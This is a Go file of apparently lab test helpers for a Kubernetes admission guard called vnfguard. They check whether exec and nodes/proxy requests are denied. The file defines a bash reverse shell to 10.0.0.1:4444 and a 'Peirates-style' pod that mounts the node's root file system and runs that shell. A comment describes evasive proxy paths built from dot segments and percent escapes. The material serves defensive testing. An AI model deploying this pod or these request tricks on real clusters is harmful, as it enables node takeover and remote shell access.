package lab

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"time"

	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/util/wait"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
)

// Registry is the registry prefix of the lab's images. Nothing is ever pulled: kwok only pretends to run pods.
const Registry = "127.0.0.1:5000/"

// ImageDigest derives a stable fake sha256 digest for a name, so that the inventory can declare it.
func ImageDigest(name string) string {
	sum := sha256.Sum256([]byte("vnfguard-lab/" + name))
	return "sha256:" + hex.EncodeToString(sum[:])
}

// ImageRef is the digest-pinned reference of a lab image: 127.0.0.1:5000/<repo>@sha256:<hex>.
func ImageRef(repo string) string { return Registry + repo + "@" + ImageDigest(repo) }

// ReverseShell is the classic bash reverse shell the Peirates-style pod runs.
const ReverseShell = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"

// PeiratesPod is the host-takeover pod that Peirates ("hostpath mount" attack) creates: the node's root file
// system mounted at /root, and a reverse shell to the attacker.
func PeiratesPod(namespace, name string) *corev1.Pod {
	return &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: namespace, Labels: map[string]string{"app": "peirates"}},
		Spec: corev1.PodSpec{
			Containers: []corev1.Container{{
				Name:    "attack",
				Image:   "docker.io/library/ubuntu:22.04",
				Command: []string{"/bin/bash", "-c", ReverseShell},
				VolumeMounts: []corev1.VolumeMount{{
					Name: "host-root", MountPath: "/root",
				}},
			}},
			Volumes: []corev1.Volume{{
				Name:         "host-root",
				VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}},
			}},
		},
	}
}

// restrictedPodSpec is a pod spec that the restricted Pod Security Standard accepts (plus the capabilities
// given, which a VNF profile must allow), the way a CNF vendor ships its VNFCs.
func restrictedPodSpec(container, image string, command []string, addCaps ...corev1.Capability) corev1.PodSpec {
	return corev1.PodSpec{
		AutomountServiceAccountToken: ptrTo(false),
		SecurityContext: &corev1.PodSecurityContext{
			RunAsNonRoot:   ptrTo(true),
			RunAsUser:      ptrTo[int64](10001),
			SeccompProfile: &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeRuntimeDefault},
		},
		Containers: []corev1.Container{{
			Name:    container,
			Image:   image,
			Command: command,
			SecurityContext: &corev1.SecurityContext{
				AllowPrivilegeEscalation: ptrTo(false),
				ReadOnlyRootFilesystem:   ptrTo(true),
				Capabilities:             &corev1.Capabilities{Drop: []corev1.Capability{"ALL"}, Add: addCaps},
			},
			Resources: corev1.ResourceRequirements{Requests: corev1.ResourceList{
				corev1.ResourceCPU:    resource.MustParse("100m"),
				corev1.ResourceMemory: resource.MustParse("128Mi"),
			}},
		}},
	}
}

// IsWebhookDenial reports whether err is the API server's answer to a request admission denied: 403 with
// `admission webhook "..." denied the request` (a webhook), or with `ValidatingAdmissionPolicy '...' with binding
// '...' denied request` (the API server's own policies, vnfguard's CEL twins among them). An RBAC 403 or a webhook
// that could not be called is not a denial.
func IsWebhookDenial(err error) bool {
	if err == nil {
		return false
	}
	msg := err.Error()
	var status apierrors.APIStatus
	if errors.As(err, &status) {
		st := status.Status()
		// The API server answers a policy's refusal without a reason of its own (a binding that finds no parameters,
		// an expression that fails under failurePolicy Fail) with 422.
		policy := strings.Contains(st.Message, "ValidatingAdmissionPolicy '")
		if st.Code != http.StatusForbidden && !(policy && st.Code == http.StatusUnprocessableEntity) {
			return false
		}
		msg = st.Message
	}
	return strings.Contains(msg, "admission webhook") && strings.Contains(msg, "denied the request") ||
		strings.Contains(msg, "ValidatingAdmissionPolicy '") && strings.Contains(msg, "' denied request: ")
}

// ExecVerb is how a client asks for exec: POST (SPDY, kubectl before 1.30) or GET (WebSocket, kubectl 1.30+).
type ExecVerb string

// The exec verbs.
const (
	ExecPOST ExecVerb = http.MethodPost
	ExecGET  ExecVerb = http.MethodGet
)

// ErrPastAdmission marks an exec that admission allowed: without a kubelet (and without upgrade headers) the API
// server fails it afterwards, with an error other than an admission denial.
var ErrPastAdmission = errors.New("passed admission")

// Exec sends pods/NAME/exec?command=ls&stdout=true with the given verb and no upgrade headers, which is enough to
// go through authorization and admission (operation CONNECT). It returns the admission denial, nil-wrapped
// ErrPastAdmission (with what the API server said next) when admission allowed it, or any other error.
func Exec(ctx context.Context, cs kubernetes.Interface, verb ExecVerb, namespace, pod string) error {
	req := cs.CoreV1().RESTClient().Verb(string(verb)).
		Namespace(namespace).Resource("pods").Name(pod).SubResource("exec").
		Param("command", "ls").Param("stdout", "true").Param("stderr", "true")
	err := req.Do(ctx).Error()
	return classifyExec(err)
}

// NodeProxy sends a request through the API server's nodes/NODE/proxy/PATH to the node's kubelet API (admission
// operation CONNECT, whatever the verb): path "run/NS/POD/CONTAINER" with cmd runs a command in the container, as
// Peirates and kubeletctl do with an identity that holds nodes/proxy. The path goes out as written in a URL, dot
// segments and percent escapes and all: client-go's request builder would clean "metrics/../exec" into "exec" and
// escape "%72un", and an attacker's client need not.
// It returns the kubelet's answer when the request got through; an admission denial as it is; ErrPastAdmission
// (wrapped, with what the API server said) when admission allowed it but no kubelet answered (the node does not
// exist, or its address is one the API server does not proxy to); any other error unchanged.
func NodeProxy(ctx context.Context, cs kubernetes.Interface, verb ExecVerb, node, path string, params map[string]string) (string, error) {
	rc, ok := cs.CoreV1().RESTClient().(*rest.RESTClient)
	if !ok {
		return "", fmt.Errorf("lab: nodes/proxy needs client-go's REST client, have %T", cs.CoreV1().RESTClient())
	}
	base := rc.Get().URL() // the API server and /api/v1
	q := url.Values{}
	for k, v := range params {
		q.Set(k, v)
	}
	raw := base.Scheme + "://" + base.Host + base.Path + "/nodes/" + node + "/proxy/" + path
	if len(q) > 0 {
		raw += "?" + q.Encode()
	}
	req, err := http.NewRequestWithContext(ctx, string(verb), raw, nil)
	if err != nil {
		return "", err
	}
	resp, err := rc.Client.Do(req)
	if err != nil {
		return "", fmt.Errorf("lab: nodes/%s/proxy/%s: %w", node, path, err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	if resp.StatusCode/100 == 2 {
		return string(body), nil
	}
	var st metav1.Status
	if json.Unmarshal(body, &st) != nil || st.Kind != "Status" {
		// Not the API server's: the kubelet's own answer, passed through.
		return "", fmt.Errorf("%w: the kubelet answered %d %s", ErrPastAdmission, resp.StatusCode, truncate(strings.TrimSpace(string(body)), 120))
	}
	err = &apierrors.StatusError{ErrStatus: st}
	if st.Code == http.StatusNotFound && st.Details != nil && st.Details.Kind == "nodes" {
		return "", fmt.Errorf("%w: the API server then answered 404 %s", ErrPastAdmission, truncate(st.Message, 120))
	}
	return "", classifyExec(err)
}

// classifyExec sorts the outcome of an exec without upgrade headers: a webhook denial stays as it is; what the
// API server answers after admission (400 upgrade required, no host, kubelet unreachable) becomes
// ErrPastAdmission; an RBAC 403 or anything else is returned unchanged.
func classifyExec(err error) error {
	if err == nil {
		return fmt.Errorf("%w: the API server answered 2xx", ErrPastAdmission)
	}
	if IsWebhookDenial(err) {
		return err
	}
	var status apierrors.APIStatus
	if errors.As(err, &status) {
		st := status.Status()
		switch {
		case st.Code == http.StatusForbidden:
			return err // RBAC or another admission plugin: not vnfguard's verdict
		case st.Code == http.StatusBadRequest, st.Code == http.StatusInternalServerError && !strings.Contains(st.Message, "failed calling webhook"),
			st.Code == http.StatusBadGateway, st.Code == http.StatusServiceUnavailable && !strings.Contains(st.Message, "webhook"):
			return fmt.Errorf("%w: the API server then answered %d %s", ErrPastAdmission, st.Code, truncate(st.Message, 120))
		}
	}
	return err
}

func ptrTo[T any](v T) *T { return &v }

// RestrictedPodSpec is a pod spec that meets the restricted Pod Security Standard: non-root, no privilege
// escalation, read-only root filesystem, every capability dropped, RuntimeDefault seccomp, no service-account token.
func RestrictedPodSpec(container, image string, command []string) corev1.PodSpec {
	return restrictedPodSpec(container, image, command)
}

// WaitPodRunning waits until pod namespace/name is Running; the error names the phase and container states it was
// last seen in.
func WaitPodRunning(ctx context.Context, cs kubernetes.Interface, namespace, name string, within time.Duration) error {
	var last corev1.PodStatus
	err := wait.PollUntilContextTimeout(ctx, 200*time.Millisecond, within, true, func(ctx context.Context) (bool, error) {
		p, err := cs.CoreV1().Pods(namespace).Get(ctx, name, metav1.GetOptions{})
		if err != nil {
			return false, nil // not there yet, or a passing error: the deadline decides
		}
		last = p.Status
		return p.Status.Phase == corev1.PodRunning, nil
	})
	if err != nil {
		return fmt.Errorf("pod %s/%s not Running within %s: phase %q, containers %+v", namespace, name, within, last.Phase, last.ContainerStatuses)
	}
	return nil
}

// WaitPodGone waits until the pod no longer exists: with a grace period, the API server removes it only once the
// kubelet has stopped its containers.
func WaitPodGone(ctx context.Context, cs kubernetes.Interface, namespace, name string, within time.Duration) error {
	err := wait.PollUntilContextTimeout(ctx, 200*time.Millisecond, within, true, func(ctx context.Context) (bool, error) {
		_, err := cs.CoreV1().Pods(namespace).Get(ctx, name, metav1.GetOptions{})
		return apierrors.IsNotFound(err), nil
	})
	if err != nil {
		return fmt.Errorf("pod %s/%s still there after %s", namespace, name, within)
	}
	return nil
}
